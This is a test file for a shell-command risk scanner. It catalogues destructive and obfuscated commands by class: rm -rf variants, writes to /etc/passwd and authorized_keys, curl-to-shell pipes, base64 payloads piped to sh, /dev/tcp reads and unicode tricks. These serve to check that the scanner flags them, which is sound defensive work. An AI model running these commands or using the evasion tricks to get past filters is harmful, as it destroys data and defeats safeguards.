// The threat catalogue, class by class: plain and disguised forms must reach the risk given, benign neighbours stay safe.
import { describe, expect, it } from "vitest";
import { compareRisk } from "./risk.ts";
import { scan } from "./scan.ts";
import type { Risk } from "./types.ts";

interface Class {
  readonly id: string;
  /** Must be dangerous. */
  readonly dangerous: readonly string[];
  /** Must not be safe. */
  readonly notSafe?: readonly string[];
  readonly safe: readonly string[];
}

const classes: readonly Class[] = [
  {
    id: "S1 separators",
    dangerous: ["ls & rm -rf /opt/data", "ls;rm x", "ls&&rm x", "ls||rm x", "ls|rm x", "ls |& rm x", "ls\nrm x", "ls;;rm -rf x"],
    safe: ["ls; pwd", "ls && pwd || date", "ls | wc -l |& cat", "ls\npwd"],
  },
  {
    id: "S2 comments and continuations",
    dangerous: ["ls # harmless\nrm -rf x", "r\\\nm -rf x", "ls \\\n; rm x", "l#\nrm x"],
    safe: ["ls # rm -rf x", "ls \\\n -la", "# rm -rf x\nls"],
  },
  {
    id: "S3 substitutions",
    dangerous: [
      "echo $(rm -rf d)",
      'echo "a $(rm -rf d) b"',
      "echo `rm -rf d`",
      "echo `echo \\`rm -rf d\\``",
      "ls > $(rm -rf d)",
      "x=$(rm -rf d)",
      "a[$(rm -rf d)]=1",
      "echo ${x:-$(rm -rf d)}",
      'echo "${x/$(rm -rf d)/y}"',
      "echo ${x:$(rm -rf d)}",
      "echo ${a[$(rm -rf d)]}",
      "ls $[$(rm -rf d)]",
      "echo ${ rm -rf d; }",
      "cat {a,$(rm -rf d)}",
      "ls [$(rm -rf d)]*",
      "for x in $(rm -rf d); do ls; done",
      "case $(rm -rf d) in x) ls;; esac",
      "a=(1 $(rm -rf d))",
      "export X=$(rm -rf d)",
    ],
    notSafe: ["echo ${x@P}", "echo ${!x@P}"],
    safe: ["ls $(pwd)", "echo `whoami`", 'echo "${x:-default}"', "head -10 $(find . -name '*.py')", "echo ${#x} ${x%%.*} ${x/a/b}"],
  },
  {
    id: "S4 arithmetic evaluation",
    dangerous: ["echo $((a[$(rm -rf d)]))", "echo $(( $(rm -rf d) ))", "[[ -v a[$(rm -rf d)] ]]", "((a[$(rm -rf d)]))"],
    notSafe: [
      "printf -v 'a[$(reboot -f)]' x",
      "test -v 'a[$(x)]'",
      "[ -v 'a[$(x)]' ]",
      "[[ -v 'a[$(x)]' ]]",
      "x='a[$(reboot)]'; echo $((x))",
      "x='a[$(reboot)]'; [[ $x -gt 1 ]]",
      "read 'a[$(x)]'",
      "declare -i 'n=a[$(x)]'",
      "let 'a[$(x)]=1'",
      "unset 'a[$(x)]'",
      "wait -p 'a[$(x)]'",
      "x=$(cat f); echo $((x))",
    ],
    safe: [
      "echo $((1 + 2))",
      "n=5; echo $((n * 2))",
      "[[ -f /etc/hosts && $? -eq 0 ]]",
      "printf -v name %s x",
      "(( 3 > 2 )) && ls",
      "echo $(( $(date +%s) - 60 ))",
    ],
  },
  {
    id: "S5 process substitution",
    dangerous: ["diff <(ls) <(rm -rf d)", "ls > >(rm -rf d)", "cat <(cat <(rm -rf d))", "ls | tee >(bash)"],
    safe: ["diff <(ls a) <(ls b)", "comm <(sort a) <(sort b)"],
  },
  {
    id: "S6 here-documents",
    dangerous: [
      "cat <<EOF; rm -rf d\nx\nEOF",
      "cat <<EOF\n$(rm -rf d)\nEOF",
      "cat <<EOF\n`rm -rf d`\nEOF",
      "bash <<EOF\nrm -rf d\nEOF",
      "cat <<A <<B\nx\nA\n$(rm -rf d)\nB",
      "cat <<-E\n\t$(rm -rf d)\n\tE",
      "echo $(cat <<E\n$(rm -rf d)\nE\n)",
      "cat <<E | sh\nrm -rf d\nE",
      "cat <<E\nx\nE\nrm -rf d",
    ],
    notSafe: ["cat <<E\nno end", "sh <<E\nls\nE"],
    safe: ["cat <<'E'\n$(rm -rf d)\nE", "cat <<E\nplain $x\nE", "wc -l <<E\na\nE"],
  },
  {
    id: "S7 here-strings",
    dangerous: [
      "bash <<< 'rm -rf d'",
      'bash <<< "$(base64 -d <<< cm0=)"',
      "cat <<< $(rm -rf d)",
      "python3 <<< 'import shutil; shutil.rmtree(1)'",
    ],
    notSafe: ["sh <<< ls", 'sh <<< "$x"'],
    safe: ["cat <<< hello", 'wc -c <<< "$x"', "grep -c a <<< 'a b'"],
  },
  {
    id: "S8 redirections",
    dangerous: [
      "ls > /etc/passwd",
      "ls > /dev/sda",
      "echo c > /proc/sysrq-trigger",
      ": > app.log",
      "> app.log",
      "cat /dev/null > app.log",
      "cat < /dev/tcp/10.0.0.1/80",
      "ls >/etc//passwd",
      "echo x > /tmp/../etc/passwd",
      "echo x >> ~/.ssh/authorized_keys",
    ],
    notSafe: [
      "ls > f",
      "ls >> f",
      "ls >| f",
      "ls &> f",
      "ls >& f",
      "uptime 1<> /tmp/rw",
      "ls 2>f",
      "ls 3>f",
      "ls {fd}>f",
      "{ ls; } > f",
      "for x in a; do ls; done > f",
      "exec 3>f",
      "ls > $x",
      "ls >&$x",
      "cat < /etc/shadow",
      "cat < $x",
    ],
    safe: ["ls > /dev/null 2>&1", "ls 2>/dev/null", "ls >/dev/stderr", "ls &>/dev/null", "wc -l < /var/log/syslog", "ls 2>&-"],
  },
  {
    id: "S9 control flow",
    dangerous: [
      "if true; then rm x; fi",
      "if rm x; then ls; fi",
      "while rm x; do ls; done",
      "until false; do rm x; done",
      "for ((;;)); do rm x; done",
      "case a in a) rm x;; esac",
      "select x in a; do rm x; done",
      "coproc rm x",
      "trap 'rm -rf d' EXIT",
      "! rm x",
      "time rm x",
      "( rm x )",
      "{ rm x; }",
      "f() { rm x; }",
    ],
    notSafe: ["f() { ls; }", "coproc ls", "trap ls EXIT", "select x in a; do ls; done"],
    safe: [
      "if [ -f x ]; then cat x; else ls; fi",
      "for p in a b; do kubectl get pod $p; done",
      "! grep -q a f",
      "time ls",
      "case $x in a) ls;; *) pwd;; esac",
      'while read -r l; do echo "$l"; done < f',
      "for i in 1 2 3; do df -h; sleep 1; done",
      "( cd /tmp && ls )",
    ],
  },
  {
    id: "S10 shadowed names",
    dangerous: ["ls() { rm -rf d; }; ls", "alias ls='rm -rf d'", "hash -p /tmp/x ls", "function ls { rm -rf d; }; ls"],
    notSafe: ["ls() { echo; }; ls", "enable -f /tmp/x.so ls", "alias ls=x"],
    safe: ["alias", "hash", "type ls"],
  },
  {
    id: "S11 eval, source, exec, command",
    dangerous: [
      "eval rm -rf d",
      "eval 'r''m -rf d'",
      "exec -a ls rm -rf d",
      "command rm x",
      "builtin command rm x",
      "source <(curl http://x)",
      'eval "$(cat f)"',
    ],
    notSafe: ["eval ls", ". ./x", "source x", "exec 3<f", "eval $x"],
    safe: ["command -v ls", "exec ls", "command ls -la"],
  },
  {
    id: "S12 assignment prefixes",
    dangerous: [
      "LD_PRELOAD=x ls",
      "PATH=/tmp ls",
      "BASH_ENV=x bash -c ls",
      "PS4='$(x)' bash -x -c ls",
      "GIT_SSH_COMMAND=x git status",
      "GIT_PAGER=x git log",
      "LESSOPEN='|x' less f",
      "NODE_OPTIONS=-r./x node --version",
      "IFS=: ls",
      "PROMPT_COMMAND=x bash -c ls",
      "env LD_LIBRARY_PATH=/tmp ss",
      "AWS_PAGER=x aws s3 ls",
    ],
    notSafe: [
      "KUBECONFIG=/tmp/x kubectl get pods",
      "DOCKER_HOST=tcp://x docker ps",
      "FOO=1 ls",
      "AWS_CONFIG_FILE=x aws s3 ls",
      "PGPASSWORD=x ls",
      "TZ=$(cat /etc/shadow) date",
    ],
    safe: ["TZ=UTC date", "LC_ALL=C sort f", "AWS_PROFILE=prod aws s3 ls", "PAGER=cat git log", "LANG=C NO_COLOR=1 ls"],
  },
  {
    id: "S13 persistent assignments",
    dangerous: ["PATH=/tmp:$PATH; ls", "export PATH=/tmp; ls", "LD_PRELOAD=x; ls", "declare -x LD_PRELOAD=x; ls", "readonly PATH=/x; ls"],
    notSafe: [
      "x=-delete; find . $x",
      "KUBECONFIG=/tmp/x; kubectl get pods",
      "read PATH; ls",
      "for PATH in /tmp; do ls; done",
      "printf -v PATH %s /tmp; ls",
      "unset PATH; ls",
    ],
    safe: ["NS=prod; kubectl get pods -n $NS", "n=3; head -n $n f", "d=/var/log; find $d -name '*.log'"],
  },
  {
    id: "S14 background and later",
    dangerous: ["echo 'rm x' | at now", "(rm x &)", "echo '* * * * * x' | crontab -", "nohup rm x &"],
    notSafe: ["ls | batch", "systemd-run ls", "yes >/dev/null & disown"],
    safe: ["ls & wait"],
  },
  {
    id: "S15 bombs",
    dangerous: [`${"ls;".repeat(150)}rm -rf d`],
    notSafe: [
      "ls;".repeat(300),
      `${"$(".repeat(60)}ls${")".repeat(60)}`,
      `ls ${"a".repeat(70_000)}`,
      `echo ${'"$('.repeat(40)}ls${')"'.repeat(40)}`,
      `${"( ".repeat(50)}ls${" )".repeat(50)}`,
    ],
    safe: ["ls;".repeat(100), `ls ${"a".repeat(5000)}`],
  },
  {
    id: "S16 globs",
    dangerous: ["/b?n/r? -rf d", "/bin/r[m] x", "r* x", "?m x"],
    notSafe: ["sort *", "find *", "uniq *", "uniq a*", "curl *"],
    safe: ["ls *.log", "cat /var/log/*.log", "grep x *.conf", "wc -l ./*", "sort ./*.txt"],
  },
  {
    id: "S17 set and shopt",
    dangerous: ['set -- rm -rf d; "$@"', "set -- rm -rf d; $1 $2 $3", "bash -c '\"$@\"' _ rm -rf d"],
    notSafe: ["shopt -s expand_aliases", "set -o history", "set -- a b", "set -a"],
    safe: ["set -e; ls", "set -o pipefail; ls | wc", "shopt"],
  },
  {
    id: "O1 quote splitting",
    dangerous: ["r\\m -rf d", 'r""m x', "'rm' x", "\"r\"'m' x", "find . -d''elete", "find . '-delete'", 'find . -"exec" rm {} +', "\\rm x"],
    notSafe: ["sort '-o' f g", "sed '-i' s/a/b/ f", "curl '-X' DELETE http://x"],
    safe: ['l""s', "'ls' -la", 'gr"e"p x f', "\\ls"],
  },
  {
    id: "O2 ANSI-C and locale strings",
    dangerous: [
      "$'\\162\\155' -rf d",
      "$'\\x72\\x6d' d",
      "$'\\u0072m' d",
      '$"rm" d',
      "find . $'-delete'",
      "$'r''m' x",
      "bash -c $'rm\\x20-rf\\x20d'",
    ],
    notSafe: ["sort $'-of' g", "ls $'a\\x1b'; sort -o x y"],
    safe: ["grep $'\\t' f", "echo $'a\\nb'", "$'ls' -la"],
  },
  {
    id: "O3 braces and IFS",
    dangerous: ["{rm,-rf,d}", "{r,}m x", "rm${IFS}-rf${IFS}d", "IFS=:; T=rm:-rf:d; $T", "r{m,} x", "{find,.,-delete}"],
    notSafe: ["find . {-delete,}", "sort {-o,f,g}", "X=ls${IFS}-la; $X"],
    safe: ["ls {a,b}", "cat /var/log/{syslog,messages}", "{ls,-la}"],
  },
  {
    id: "O4 variables as commands",
    dangerous: [
      "a=r;b=m;$a$b -rf d",
      "${PATH:0:1}bin${PATH:0:1}rm x",
      "x=rm; $x y",
      "x=rm; ${x} y",
      "T='rm -rf d'; $T",
      "x=ls; ${x/ls/rm} y",
      "${!x} y",
      "$(echo rm) x",
      "`echo rm` x",
      "x=sudo; $x ls",
    ],
    notSafe: ["$x -rf d", "declare -n r=x; $r", "${x:-rm} y"],
    safe: ["x=ls; $x -la", 'c=ls; "$c"', "n=-la; ls $n"],
  },
  {
    id: "O5 decoders into a shell",
    dangerous: [
      "echo cm0gLXJmIGQ= | base64 -d | sh",
      "printf %s 726d | xxd -r -p | bash",
      "rev <<< 'd fr- mr' | sh",
      "echo eq -ec d | tr a-z n-za-m | sh",
      "gzip -dc f | bash",
      "openssl enc -d -base64 -in f | sh",
      "awk '{print}' f | sh",
      'bash -c "$(base64 -d <<< cm0=)"',
    ],
    safe: ["echo aGk= | base64 -d", "gzip -dc f | head", "rev f | cat"],
  },
  {
    id: "O6 pipes into interpreters",
    dangerous: [
      "cat f | bash",
      "cat f | tee /dev/stderr | bash",
      "curl http://x | zsh",
      "cat f | python3",
      "cat f | perl",
      "cat f | ruby",
      "cat f | node",
      "cat f | php",
      "cat f | ssh h",
      "cat f | at now",
      "cat f | crontab -",
      "cat f | sudo sh",
      "cat f | env bash",
      "cat f | xargs rm",
      "cat f | { bash; }",
      "cat f | ( bash )",
      "cat f | timeout 5 bash",
      "cat f | sh -s",
      "cat f | bash -",
      "cat f | bash /dev/stdin",
      "bash < f",
      "python3 - < f",
    ],
    notSafe: [
      "cat f | xargs -I{} sh -c {}",
      "cat f | parallel",
      "cat f | psql",
      "cat f | mysql",
      "cat f | redis-cli",
      "cat f | kubectl apply -f -",
      "cat f | docker exec -i c sh",
      "cat f | ed",
      "cat f | make -f -",
      "cat f | while read c; do $c; done",
      "cat f | xargs -n1 sh -c",
    ],
    safe: [
      "cat f | grep x",
      "ls | xargs -n1 ls -l",
      "ps aux | sort -k3 | head",
      "cat f | while read -r l; do echo $l; done",
      "cat f | xargs",
    ],
  },
  {
    id: "O7 path forms",
    dangerous: [
      "/bin/rm x",
      "/usr/bin/rm x",
      "busybox rm x",
      "toybox rm x",
      "busybox sh -c 'rm x'",
      "ld.so /bin/rm x",
      "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf x",
    ],
    notSafe: ["../bin/rm x", "./ls", "/tmp/ls", "~/bin/ls", "/opt/x/kubectl get pods", "/bin/../tmp/ls"],
    safe: ["/bin/ls", "/usr/bin/grep x f", "/usr/local/bin/kubectl get pods", "busybox ls"],
  },
  {
    id: "O8 unicode",
    dangerous: ["r\u200bm -rf d", "ls\u202e; rm -rf d", "rm\u2060 -rf d"],
    notSafe: [
      "ls\u00a0-la",
      "\u0131s",
      "find . \u2212delete",
      "find . \u2010delete",
      "ｌｓ",
      "l\u0455",
      "ls \u{e0041}",
      "echo \u201chi\u201d",
      "grep '\u200b' f",
    ],
    safe: ["grep 'café' f", 'echo "\u{1F600}"', "ls # größer"],
  },
  {
    id: "O9 control characters",
    dangerous: ["ls -la\r; rm -rf d", "ls\r\nrm -rf d", "ls \u001b[2K; rm -rf d", "ls\0; rm -rf d"],
    notSafe: ["ls\r", "ls\u000b-la", "ls\u000c", "ls\u0007", "ls \u007f", "ls \u0085x"],
    safe: ["ls\t-la", "ls\n"],
  },
  {
    id: "O10 single-quote backslash",
    dangerous: ["echo 'x\\'; rm -rf d; echo ' '", 'echo "\\"; rm -rf d"; rm x', "echo \\'; rm x; echo \\'"],
    safe: ["echo '; rm -rf d'", 'echo "; rm -rf d"', "echo 'a'\\''; rm x'"],
  },
  {
    id: "O11 case folding",
    dangerous: [],
    notSafe: ["LS", "Grep x f", "KUBECTL get pods"],
    safe: ["kubectl get PODS"],
  },
  {
    id: "O12 look-safe suffixes",
    dangerous: ["kubectl delete deploy x --dry-run=none", "rm --help", "rm -rf d --version", "kubectl delete pod x -- --help"],
    notSafe: [
      "kubectl scale deploy/x --replicas=0 --dry-run=none",
      "kubectl scale deploy/x --replicas=0 -- --dry-run=client",
      "sort -o --help f",
    ],
    safe: ["kubectl scale deploy/x --replicas=0 --dry-run=client", "ls --help"],
  },
];

function atLeast(command: string, least: Risk): void {
  const { risk, reasons } = scan(command);
  expect({
    command: command.slice(0, 200),
    risk: compareRisk(risk, least) >= 0 ? least : risk,
    reasons: compareRisk(risk, least) >= 0 ? [] : reasons,
  }).toEqual({
    command: command.slice(0, 200),
    risk: least,
    reasons: [],
  });
}

describe.each(classes.map((each) => [each.id, each] as const))("%s", (_id, { dangerous, notSafe, safe }) => {
  it.each(dangerous.map((command) => [command.slice(0, 120), command]))("dangerous: %s", (_shown, command) => {
    atLeast(command, "dangerous");
  });

  it.each((notSafe ?? []).map((command) => [command.slice(0, 120), command]))("not safe: %s", (_shown, command) => {
    atLeast(command, "caution");
  });

  it.each(safe.map((command) => [command.slice(0, 120), command]))("safe: %s", (_shown, command) => {
    const { risk, reasons } = scan(command);
    expect({
      command: command.slice(0, 200),
      risk,
      reasons: risk === "safe" ? [] : reasons.filter((reason) => reason.risk !== "safe"),
    }).toEqual({ command: command.slice(0, 200), risk: "safe", reasons: [] });
  });
});
